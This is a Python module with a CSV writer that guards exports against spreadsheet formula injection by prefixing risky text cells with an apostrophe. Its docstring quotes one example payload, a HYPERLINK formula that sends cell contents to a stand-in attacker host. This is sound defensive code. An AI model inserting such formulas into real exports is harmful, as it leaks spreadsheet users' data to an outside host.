"""CSV that a spreadsheet opens as data, never as formulas: the one writer every CSV export goes through.

Excel, LibreOffice and Google Sheets run a cell whose text starts with ``=``, ``+``, ``-`` or ``@`` (and, in
some of them, a tab or carriage return before one) as a formula, so a catalog name such as
``=HYPERLINK("http://evil.example/?"&A1)`` in a downloaded table would act on the reader's machine. A text cell
that starts with one of those characters is written with a leading apostrophe, which spreadsheets show as
plain text. Numbers are written as numbers: -3.5 stays -3.5, because only text is neutralised.
"""

from __future__ import annotations

import csv
import math
import numbers
from collections.abc import Iterable, Sequence
from typing import Any, TextIO

# What a spreadsheet reads as the start of a formula (OWASP's list for CSV injection).
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
# What the writer puts in front of such a cell, and what an import takes off again.
GUARD = "'"


def safe_cell(value: Any, float_format: str | None = None) -> Any:
    """Returns the value as the CSV cell to write.

    None and NaN become empty cells; numbers stay numbers (formatted with ``float_format`` when given, for
    non-integers); everything else is text, with an apostrophe in front when it would start a formula.
    """
    if value is None:
        return ""
    if isinstance(value, bool):
        return value
    if isinstance(value, numbers.Number) and not isinstance(value, complex):
        if isinstance(value, numbers.Integral):
            return value
        if isinstance(value, float) and math.isnan(value):
            return ""
        return float_format % value if float_format else value
    text = str(value)
    if text.startswith(FORMULA_STARTS):
        return GUARD + text
    return text


def restore_cell(text: str) -> str:
    """Returns an imported cell without the apostrophe that :func:`safe_cell` put before a formula character.

    An export opened and saved by a spreadsheet, or imported as is, then reads back as the original text.
    """
    if text.startswith(GUARD) and text[1:2] and text[1] in FORMULA_STARTS:
        return text[1:]
    return text


class FormulaSafeWriter:
    """A ``csv.writer`` whose every cell goes through :func:`safe_cell`."""

    def __init__(self, out: TextIO, float_format: str | None = None):
        self._writer = csv.writer(out)
        self.float_format = float_format

    def writerow(self, row: Iterable[Any]) -> None:
        """Writes one row; returns nothing."""
        self._writer.writerow([safe_cell(v, self.float_format) for v in row])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        """Writes every row; returns nothing."""
        for row in rows:
            self.writerow(row)


def write_csv(
    out: TextIO, header: Sequence[str], rows: Iterable[Iterable[Any]], float_format: str | None = None
) -> None:
    """Writes the header and the rows to ``out`` with formula-safe cells; returns nothing."""
    writer = FormulaSafeWriter(out, float_format)
    writer.writerow(header)
    writer.writerows(rows)
